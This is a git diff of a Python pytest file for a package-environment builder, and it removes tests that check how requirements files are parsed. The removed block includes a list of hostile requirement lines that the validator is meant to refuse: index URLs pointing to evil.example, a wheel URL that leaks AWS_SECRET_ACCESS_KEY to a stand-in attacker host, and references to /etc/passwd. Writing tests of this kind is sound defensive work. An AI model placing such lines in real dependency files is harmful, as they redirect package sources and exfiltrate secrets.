@@ -12,7 +12,6 @@ import hashlib
 import http.server
 import json
 import os
-import re
 import signal
 import subprocess
 import sys
@@ -24,7 +23,7 @@ from pathlib import Path
 import pytest
 
 from live_code.envs import builder as envs
-from live_code.errors import ConfigError, EnvironmentBuildError, RequirementError
+from live_code.errors import EnvironmentBuildError, RequirementError
 from live_code.source import store as store_mod
 from tests.helpers.envs import REAL_UV, job_python, offline, write_wheel
 
@@ -76,160 +75,7 @@ def base_frameworks(base_python: str) -> dict[str, str]:
     return out
 
 
-# -- which file, and its lines ---------------------------------------------------------------------
-
-
-def test_find_requirements_prefers_manifest_then_requirements_txt_then_legacy(repo: Path) -> None:
-    assert envs.find_requirements(repo) is None
-    (repo / "extra-requirements.txt").write_text("tinydep\n")
-    assert envs.find_requirements(repo) == (repo / "extra-requirements.txt").resolve()
-    (repo / "requirements.txt").write_text("tinydep\n")
-    assert envs.find_requirements(repo) == (repo / "requirements.txt").resolve()
-    (repo / "deps").mkdir()
-    (repo / "deps" / "run.txt").write_text("tinydep\n")
-    assert envs.find_requirements(repo, "deps/run.txt") == (repo / "deps" / "run.txt").resolve()
-
-
-@pytest.mark.parametrize("entry", ["missing.txt", "../outside.txt", "/etc/hostname"])
-def test_find_requirements_refuses_manifest_entry_missing_or_outside(repo: Path, entry: str) -> None:
-    (repo.parent / "outside.txt").write_text("tinydep\n")
-    with pytest.raises(ConfigError, match=r"live-code\.yaml"):
-        envs.find_requirements(repo, entry)
-
-
-def test_find_requirements_refuses_symlink_out_of_repo(repo: Path) -> None:
-    (repo.parent / "elsewhere.txt").write_text("tinydep\n")
-    (repo / "requirements.txt").symlink_to(repo.parent / "elsewhere.txt")
-    with pytest.raises(RequirementError, match="outside the repository"):
-        envs.find_requirements(repo)
-
-
-REFUSED = [
-    ("--index-url https://evil.example/simple", "would change where packages come from"),
-    ("-i https://evil.example/simple", "would change where packages come from"),
-    ("--extra-index-url https://evil.example/simple", "would change where packages come from"),
-    ("--trusted-host evil.example", "would change where packages come from"),
-    ("--find-links https://evil.example/links", "would change where packages come from"),
-    ("-f ./wheels", "would change where packages come from"),
-    ("--no-index", "would change where packages come from"),
-    ("tinydep==${TINY_VERSION}", "environment variable"),
-    ("https://evil.example/${AWS_SECRET_ACCESS_KEY}.whl", "environment variable"),
-    ("../outside/pkg-1.0-py3-none-any.whl", "outside the repository"),
-    ("/etc/passwd", "outside the repository"),
-    ("pkg @ file:///etc/hosts", "outside the repository"),
-    ("-r ../other.txt", "outside the repository"),
-    ("--requirement=/etc/other.txt", "outside the repository"),
-    ("-r https://evil.example/r.txt", "inside the repository"),
-    ("-e .", "editable"),
-    ("-c constraints.txt", "constraint files"),
-    ("--pre", "not allowed"),
-    ("tinydep==1.0 --install-option=--prefix=/tmp", "not allowed"),
-    ("tinydep==1.0 --hash=md5:0123", "sha256"),
-    ("git+https://example.com/o/r@main#egg=r", "full commit SHA"),
-    ("r @ git+https://example.com/o/r", "full commit SHA"),
-    ("r @ git+https://example.com/o/r@0123456", "full commit SHA"),
-    (f"r @ git+ssh://git@example.com/o/r@{SHA}", "git+ssh"),
-    (f"r @ hg+https://example.com/o/r@{SHA}", "hg+https"),
-    ("http://example.com/pkg-1.0-py3-none-any.whl", "http://"),
-    ("pkg @ https://user:tok3n@example.com/pkg.whl", "credentials"),
-    ("not a requirement !!", "not a valid requirement"),
-]
-
-
-@pytest.mark.parametrize(("line", "why"), REFUSED, ids=[r[0][:40] for r in REFUSED])
-def test_parse_refuses_line_naming_file_and_line_number(repo: Path, line: str, why: str) -> None:
-    (repo / "requirements.txt").write_text(f"# pinned deps\ntinydep==1.0\n\n{line}\ntinyapp==1.0\n")
-    with pytest.raises(RequirementError, match=re.escape(why)) as info:
-        envs.parse_requirements(repo / "requirements.txt", repo)
-    assert str(info.value).startswith("requirements.txt:4: ")
-    assert "tok3n" not in info.value.render()
-
-
-def test_parse_names_the_line_inside_an_included_file(repo: Path) -> None:
-    (repo / "reqs").mkdir()
-    (repo / "requirements.txt").write_text("tinydep==1.0\n-r reqs/extra.txt\n")
-    (repo / "reqs" / "extra.txt").write_text("tinyapp==1.0\n--extra-index-url https://evil.example/simple\n")
-    with pytest.raises(RequirementError, match=r"^reqs/extra.txt:2: "):
-        envs.parse_requirements(repo / "requirements.txt", repo)
-
-
-def test_parse_follows_includes_and_refuses_cycles(repo: Path) -> None:
-    (repo / "requirements.txt").write_text("tinydep==1.0\n-r more.txt\n")
-    (repo / "more.txt").write_text("tinyapp==1.0  # the app\n")
-    reqs = envs.parse_requirements(repo / "requirements.txt", repo)
-    assert [(r.origin, r.spec) for r in reqs.lines] == [
-        ("requirements.txt:1", "tinydep==1.0"),
-        ("more.txt:1", "tinyapp==1.0"),
-    ]
-    assert [rel for rel, _ in reqs.sources] == ["requirements.txt", "more.txt"]
-    (repo / "more.txt").write_text("-r requirements.txt\n")
-    with pytest.raises(RequirementError, match=r"more\.txt:1: .*cycle"):
-        envs.parse_requirements(repo / "requirements.txt", repo)
-
-
-def test_parse_accepts_pinned_vcs_and_records_unpinned_lines(repo: Path) -> None:
-    (repo / "requirements.txt").write_text(
-        f"r @ git+https://example.com/o/r@{SHA}\n"
-        "tinyapp>=1.0\n"
-        "tinydep==1.0 ; python_version >= '3'\n"
-        "six\n"
-        "pkg @ https://example.com/pkg-1.0-py3-none-any.whl#sha256=" + "a" * 64 + "\n"
-    )
-    reqs = envs.parse_requirements(repo / "requirements.txt", repo)
-    assert [(r.kind, r.name, r.pinned) for r in reqs.lines] == [
-        ("vcs", "r", True),
-        ("name", "tinyapp", False),
-        ("name", "tinydep", True),
-        ("name", "six", False),
-        ("url", "pkg", True),
-    ]
-    assert reqs.unpinned == ("requirements.txt:2: tinyapp>=1.0", "requirements.txt:4: six")
-
-
-def test_strict_pins_refuses_an_unpinned_line_with_its_number(repo: Path) -> None:
-    (repo / "requirements.txt").write_text("tinydep==1.0\ntinyapp>=1.0\n")
-    assert envs.parse_requirements(repo / "requirements.txt", repo).unpinned
-    with pytest.raises(RequirementError, match=r"^requirements.txt:2: .*live_code_strict_pins"):
-        envs.parse_requirements(repo / "requirements.txt", repo, strict_pins=True)
-
-
-def test_parse_joins_continuations_but_never_continues_a_comment(repo: Path) -> None:
-    digest = "sha256:" + "b" * 64
-    (repo / "requirements.txt").write_text(
-        f"tinydep==1.0 \\\n    --hash={digest}\n"
-        "# a comment ending in a backslash \\\n"
-        "tinyapp==1.0\n"
-        "six==1.16.0 # note \\\n"
-        "--index-url https://evil.example/simple\n"
-    )
-    reqs = envs.parse_requirements(repo / "requirements.txt", repo)
-    assert [(r.origin, r.spec, r.hashes) for r in reqs.lines] == [
-        ("requirements.txt:1", "tinydep==1.0", (digest,)),
-        ("requirements.txt:4", "tinyapp==1.0", ()),
-        ("requirements.txt:5", "six==1.16.0", ()),  # pip's rule: the comment swallows the next line
-    ]
-
-
-def test_local_path_inside_repo_is_accepted_and_its_bytes_are_in_the_digest(repo: Path, wheelhouse: Path) -> None:
-    (repo / "vendor").mkdir()
-    wheel = write_wheel(repo / "vendor", "tinydep", "1.0")
-    (repo / "requirements.txt").write_text(f"./vendor/{wheel.name}\n")
-    first = envs.parse_requirements(repo / "requirements.txt", repo)
-    assert first.lines[0].spec == str(wheel.resolve()) and first.lines[0].kind == "path"
-    wheel.write_bytes(wheel.read_bytes() + b"\0")
-    assert envs.parse_requirements(repo / "requirements.txt", repo).digest() != first.digest()
-
-
 # -- base and key ----------------------------------------------------------------------------------
-
-
-def test_base_fingerprint_reads_the_venv_base_and_its_protected_frameworks(base_python: str) -> None:
-    base = envs.base_fingerprint(base_python)
-    assert base.protected == {"torch": "2.13.0", "nvidia-cublas-cu12": "12.4.5.8"}
-    assert base.is_venv and not base.system_site
-    assert base.venv_site_dirs == (str(site_packages(Path(base_python).parent.parent)),)
-    assert base.python_version == ".".join(map(str, sys.version_info[:3]))
-    assert envs.base_fingerprint(base_python).fingerprint() == base.fingerprint()
 
 
 def test_env_key_is_stable_and_changes_with_each_input(
